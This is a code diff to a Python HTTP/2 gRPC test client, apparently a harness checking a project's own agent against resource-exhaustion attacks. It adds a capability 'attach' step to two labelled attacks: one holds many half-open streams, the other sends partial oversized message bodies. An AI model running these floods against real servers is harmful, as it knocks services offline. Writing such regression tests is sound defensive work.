@@ -71,6 +71,7 @@ class StreamState:
     data: int = 0
     reset: int | None = None  # RST_STREAM error code
     ended: bool = False
+    first: bytes = b""  # the first 64 KiB of the response body
 
     @property
     def grpc_status(self) -> str | None:
@@ -95,6 +96,7 @@ class H2Client:
         self.goaway: tuple[int, bytes] | None = None
         self.closed = False  # the agent closed the connection (EOF or reset)
         self.settings_seen = False  # the agent's SETTINGS arrived (it serves this connection)
+        self.metadata: list[tuple[str, str]] = []  # sent with every stream (see attach())
         self.error = ""
         self.flush()
 
@@ -157,6 +159,8 @@ class H2Client:
         elif isinstance(event, h2.events.DataReceived):
             if st is not None:
                 st.data += len(event.data)
+                if len(st.first) < 65536:
+                    st.first += bytes(event.data[: 65536 - len(st.first)])
             with contextlib.suppress(Exception):
                 self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
         elif isinstance(event, h2.events.StreamReset) and st is not None:
@@ -169,6 +173,28 @@ class H2Client:
             self.goaway = (int(event.error_code), bytes(event.additional_data or b""))
 
     # Streams ---------------------------------------------------------------------------------
+    def attach(self, timeout: float = 5.0) -> str:
+        """Attach as the protocol says (an Attach stream on this connection, kept open) and
+        send the capability of its AttachEvent with every later stream; returns it ("" when
+        the agent issues none or refused)."""
+        sid = self.open_stream("Attach")
+        self.send(sid, grpc_frame(b""), end_stream=True)
+        st = self.streams[sid]
+        deadline = time.monotonic() + timeout
+        while time.monotonic() < deadline and self.pump(0.05):
+            if len(st.first) >= 5 or st.reset is not None or st.grpc_status is not None:
+                break
+        if len(st.first) < 5:
+            return ""
+        from vaccel_core.proto import pb
+
+        size = int.from_bytes(st.first[1:5], "big")
+        event = pb().AttachEvent.FromString(st.first[5 : 5 + size])
+        capability = str(getattr(event, "capability", "") or "")
+        if capability:
+            self.metadata = [("vaccel-capability", capability)]
+        return capability
+
     def open_stream(self, method: str, *, end_stream: bool = False) -> int:
         """HEADERS of a gRPC call to ``method`` (without END_STREAM unless asked)."""
         sid = self.conn.get_next_available_stream_id()
@@ -180,6 +206,7 @@ class H2Client:
             (":authority", authority),
             ("content-type", "application/grpc"),
             ("te", "trailers"),
+            *self.metadata,
         ]
         self.conn.send_headers(sid, headers, end_stream=end_stream)
         self.streams[sid] = StreamState()
@@ -292,14 +319,18 @@ class H2Result:
 
 
 def attack_half_headers(
-    address: str, hold: Hold, streams: int = 64, max_streams: int = 16
+    address: str, hold: Hold, streams: int = 64, max_streams: int = 16, *, attach: bool = False
 ) -> H2Result:
-    """Attack 3: ``streams`` request HEADERS without END_STREAM and no DATA on one connection.
+    """Attack 3: ``streams`` request HEADERS without END_STREAM and no DATA on one connection
+    (with ``attach``, as an attached client: an Attach stream first, its capability on every
+    stream, so that the agent cannot refuse them for want of one).
 
     Succeeded: more than ``max_streams`` (the agent's --max-streams) stayed open (each such
     stream held a server thread in the agent of the issue)."""
     client = H2Client(address)
     try:
+        if attach:
+            client.attach()
         for _ in range(streams):
             client.open_stream("GetStatus")
         client.flush()
@@ -307,8 +338,13 @@ def attack_half_headers(
         hold()
         client.pump(0.0)
         s = client.summary()
+        if attach:  # the Attach stream is not one of the attack's
+            s["streams"] -= 1
+            s["open"] -= 1
         refusal = client.first_refusal()
         got = f"{s['open']}/{streams} streams left open, {s['reset']} reset, {s['status']} status"
+        if attach:
+            got += f" ({'with' if client.metadata else 'WITHOUT'} a capability)"
         if refusal:
             got += f"; {refusal}"
         if client.closed:
@@ -329,11 +365,13 @@ def attack_half_bodies(
     per_stream: int = 32 << 20,
     budget_seconds: float = 30.0,
     stall_seconds: float = 3.0,
+    attach: bool = False,
 ) -> H2Result:
     """Attack 4: on each of ``connections`` connections, ``streams`` calls each announce a
     gRPC message of ``announce`` bytes and send ``per_stream`` bytes of it, never the rest.
     Sends as fast as flow control lets it (within ``budget_seconds``; it stops when no stream
-    progressed for ``stall_seconds``).
+    progressed for ``stall_seconds``). With ``attach``, each connection attaches first and
+    sends its capability on every stream.
 
     ``numbers['accepted']``: bytes the agent let in (flow control granted them, so it buffers
     them). Succeeded: every byte was accepted (the agent never refused a stream)."""
@@ -344,6 +382,8 @@ def attack_half_bodies(
         for _ in range(connections):
             c = H2Client(address)
             clients.append(c)
+            if attach:
+                c.attach()
             for _ in range(streams):
                 sid = c.open_stream("Run")
                 c.send(sid, b"\x00" + announce.to_bytes(4, "big"))
@@ -389,9 +429,12 @@ def attack_half_bodies(
         refusal = next((r for r in (c.first_refusal() for c in clients) if r), "")
         got = (
             f"agent accepted {accepted / 2**20:.0f} MiB of {total * per_stream / 2**20:.0f} MiB "
-            f"({total} streams x {per_stream >> 20} MiB of a {announce / 2**20:.0f} MiB message); "
-            f"{reset} reset, {status} status, {closed} conn closed"
+            f"({total} streams x {per_stream / 2**20:.0f} MiB of a {announce / 2**20:.0f} MiB "
+            f"message); {reset} reset, {status} status, {closed} conn closed"
         )
+        if attach:
+            with_cap = sum(1 for c in clients if c.metadata)
+            got += f"; {with_cap}/{connections} connections attached with a capability"
         if refusal:
             got += f"; {refusal}"
         numbers = {"accepted": accepted, "reset": reset, "status": status, "closed": closed}
